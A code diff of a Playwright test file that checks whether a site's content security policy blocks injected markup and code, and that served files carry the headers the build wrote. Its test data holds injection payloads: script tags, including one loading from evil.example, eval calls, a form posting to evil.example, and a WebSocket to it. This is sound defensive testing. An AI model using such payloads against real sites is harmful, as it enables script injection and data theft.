@@ -4,7 +4,7 @@ import { addressOf } from '@sandbox/run/ports';
 import { headersOfEveryFile, readHosting } from '@tools/hosting';
 import { expect, test } from './support/test';
 
-/** What somebody's text would do if it ever stood in the page as markup: each of these must be refused. */
+/** Markup that must be blocked if a user's text is ever inserted into the page unescaped. */
 const markup: [directive: string, html: string][] = [
   ['script-src-elem', '<script>ran.push("script")</script>'],
   ['script-src-elem', '<script src="https://evil.example/x.js"></script>'],
@@ -22,7 +22,7 @@ const markup: [directive: string, html: string][] = [
   ['form-action', '<form id="form" action="https://evil.example/"><button id="send"></button></form>'],
 ];
 
-/** The same for text that a script of the site would take for code, markup or an address. */
+/** Calls that must be blocked if a script of the site uses text as code, markup or an address. */
 const code: [directive: string, line: string][] = [
   ['require-trusted-types-for', 'eval("ran.push(1)")'],
   ['require-trusted-types-for', 'new Function("ran.push(2)")()'],
@@ -34,8 +34,8 @@ const code: [directive: string, line: string][] = [
   ['connect-src', 'new WebSocket("wss://evil.example/")'],
 ];
 
-/** The built page with that markup in it, and those lines run one by one as a script of the site. */
-async function openTampered(page: Page) {
+/** Opens the built page with that markup in it and a script that runs those calls one by one. */
+async function openInjectedPage(page: Page) {
   await page.route('/home', async (route) => {
     const response = await route.fetch();
     const traps = markup.map(([, html]) => html).join('');
@@ -46,7 +46,7 @@ async function openTampered(page: Page) {
   await page.route('/probe.js', (route) =>
     route.fulfill({ contentType: 'text/javascript', body: ['window.ran = []', ...lines].join(';\n') }),
   );
-  // A page that a test answers with may not ask hosts on this machine.
+  // The browser blocks requests to hosts of this machine from a page that a test has fulfilled.
   const headers = { 'access-control-allow-origin': '*' };
   await page.route(`${addressOf('market')}/**`, (route) => route.fulfill({ json: [], headers }));
   await page.goto('/home');
@@ -55,28 +55,31 @@ async function openTampered(page: Page) {
   await page.evaluate(() => document.getElementById('link')?.click());
 }
 
-test('Whatever is smuggled into the page is refused, and such a refusal fails a test', async ({ page, problems }) => {
-  await openTampered(page);
+test('The content security policy blocks everything injected into the page, and every violation fails a test', async ({
+  page,
+  problems,
+}) => {
+  await openInjectedPage(page);
   expect(await page.evaluate<unknown>(() => Reflect.get(window, 'ran'))).toEqual([]);
-  // The last thing: Playwright waits for ever for the page that would come.
+  // Must come last: Playwright would wait forever for the navigation.
   void page.evaluate(() => document.getElementById('send')?.click());
 
-  const refused = () => problems.unexpected.filter((line) => line.startsWith('policy: '));
-  const count = (directive: string) => refused().filter((line) => line.startsWith(`policy: ${directive} `)).length;
+  const violations = () => problems.unexpected.filter((line) => line.startsWith('policy: '));
+  const count = (directive: string) => violations().filter((line) => line.startsWith(`policy: ${directive} `)).length;
 
   for (const directive of new Set([...markup, ...code].map(([name]) => name))) {
-    const least = [...markup, ...code].filter(([name]) => name === directive).length;
-    await expect.poll(() => count(directive), `refusals by ${directive}`).toBeGreaterThanOrEqual(least);
+    const expected = [...markup, ...code].filter(([name]) => name === directive).length;
+    await expect.poll(() => count(directive), `violations of ${directive}`).toBeGreaterThanOrEqual(expected);
   }
-  expect(problems.unexpected.filter((line) => line.startsWith('asked for'))).toEqual([]);
+  expect(problems.unexpected.filter((line) => line.startsWith('requested'))).toEqual([]);
   problems.expect(/^policy: |^console: [^]*(Content Security Policy|requires 'Trusted)/);
 });
 
-test('Every file is served with the headers that the build has written', async ({ page }) => {
-  const made = headersOfEveryFile(readHosting('.sandbox/browser-tests/dist/firebase.json'));
+test('Every file is served with the headers that the build wrote', async ({ page }) => {
+  const written = headersOfEveryFile(readHosting('.sandbox/browser-tests/dist/firebase.json'));
   const script =
     /\/assets\/[\w.-]+\.js/.exec(readFileSync('.sandbox/browser-tests/dist/index.html', 'utf8'))?.[0] ?? '';
-  const served = Object.entries(made).map(([name, value]) => [name.toLowerCase(), value] as const);
+  const served = Object.entries(written).map(([name, value]) => [name.toLowerCase(), value] as const);
 
   expect(served).toHaveLength(7);
   for (const path of [
@@ -87,7 +90,7 @@ test('Every file is served with the headers that the build has written', async (
     '/no/such',
     script,
   ]) {
-    const answer = await page.request.get(path);
-    expect(answer.headers(), path).toMatchObject(Object.fromEntries(served));
+    const response = await page.request.get(path);
+    expect(response.headers(), path).toMatchObject(Object.fromEntries(served));
   }
 });
